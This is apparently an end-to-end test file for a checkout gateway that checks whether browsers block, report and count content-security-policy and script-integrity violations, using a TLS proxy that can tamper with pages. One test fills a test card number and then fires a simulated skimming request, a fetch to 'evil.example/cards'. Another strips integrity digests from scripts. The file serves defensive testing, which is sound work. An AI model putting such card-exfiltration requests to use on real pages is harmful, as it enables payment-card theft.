import { createHash, X509Certificate } from "node:crypto";
import { request as httpRequest } from "node:http";
import { createServer as createTlsServer } from "node:https";
import type { IncomingMessage, RequestListener, ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, onTestFinished, test } from "vitest";
import { makeTestCertificates, type TestCertificates } from "../support/index.ts";
import { startBrowserHarness, type BrowserHarness } from "./browser-harness.ts";
import { launchChromium } from "./launch-chromium.ts";

let product: BrowserHarness;
let certificates: TestCertificates;
let browser: Browser;
beforeAll(async () => {
  [product, certificates] = await Promise.all([startBrowserHarness(), makeTestCertificates()]);
  const publicKey = new X509Certificate(certificates.cert).publicKey.export({ type: "spki", format: "der" });
  browser = await launchChromium([
    // Browsers report over TLS only, and otherwise up to a minute later.
    `--ignore-certificate-errors-spki-list=${createHash("sha256").update(publicKey).digest("base64")}`,
    "--short-reporting-delay",
  ]);
});
afterAll(async () => {
  await browser.close();
  await product.stop();
});

/** The violations that the gateway has counted, as `directive source`. */
async function violations(): Promise<string[]> {
  const text = await (await fetch(`${product.file.healthUrls["gateway-public"]}/metrics`)).text();
  return [...text.matchAll(/^holdfast_page_violations_total\{(.*)\} \d+/gm)].map(([, labels = ""]) =>
    ["directive", "source"].map((name) => new RegExp(`${name}="([^"]*)"`).exec(labels)?.[1]).join(" "),
  );
}

/** The checkout's page behind TLS, as it was sent or changed on the way. */
async function visit(change: (page: string) => string = (page) => page): Promise<Page> {
  const port = await startTlsProxy(change);
  const { checkoutId } = await product.createCheckout();
  const context = await browser.newContext();
  context.setDefaultTimeout(PATIENTLY.timeout);
  onTestFinished(() => context.close());
  const page = await context.newPage();
  await page.goto(`https://localhost:${port}/checkout/${checkoutId}`);
  return page;
}

test("a page as it was sent is reported by no browser, and a request to another place is stopped, reported and counted", async () => {
  const before = await violations();
  const page = await visit();
  await page.locator("#pan").fill("4111 1111 1111 1111");
  expect(await violations()).toEqual(before);
  await page.evaluate(`fetch("https://evil.example/cards").catch(() => undefined)`);
  await expect.poll(violations, PATIENTLY).toContain("connect-src foreign");
});

test("a script whose digest somebody took away is stopped and reported, though it has our nonce", async () => {
  const page = await visit((text) => text.replaceAll(/integrity="sha384-[^"]+"/g, ""));
  // The proxy's origin differs from `PUBLIC_URL`.
  await expect.poll(violations, PATIENTLY).toContain("integrity foreign");
  // The stopped script would have filled this element.
  expect(await page.locator("#scheme").textContent()).toBe("");
});

/** The browser gathers reports for a moment, and a busy machine takes its time. */
const PATIENTLY = { timeout: 180_000 };

async function startTlsProxy(change: (page: string) => string): Promise<number> {
  const proxy = createTlsServer(certificates, ((request, answer) =>
    passOn(request, answer, change)) as RequestListener);
  // The proxy passes on the gateway's keep-alive time, which is longer than Node keeps ours.
  proxy.keepAliveTimeout = 0;
  await new Promise<void>((resolve) => proxy.listen(0, "localhost", resolve));
  onTestFinished(() => {
    proxy.closeAllConnections();
    proxy.close();
  });
  return (proxy.address() as AddressInfo).port;
}

function passOn(request: IncomingMessage, answer: ServerResponse, change: (page: string) => string): void {
  const target = new URL(request.url!, product.file.publicUrl);
  const onward = httpRequest(target, {
    method: request.method!,
    headers: { ...request.headers, host: target.host },
  });
  // The gateway may close a connection at the moment at which it is used again; the browser then asks again.
  onward.on("error", () => answer.destroy());
  onward.on("response", (response) => {
    const isPage = response.headers["content-type"]?.startsWith("text/html") === true;
    const { "content-length": _length, ...headers } = response.headers;
    answer.writeHead(response.statusCode!, headers);
    if (!isPage) return response.pipe(answer);
    const chunks: Buffer[] = [];
    response.on("data", (chunk: Buffer) => chunks.push(chunk));
    response.on("end", () => answer.end(change(Buffer.concat(chunks).toString("utf8"))));
    return undefined;
  });
  request.pipe(onward);
}
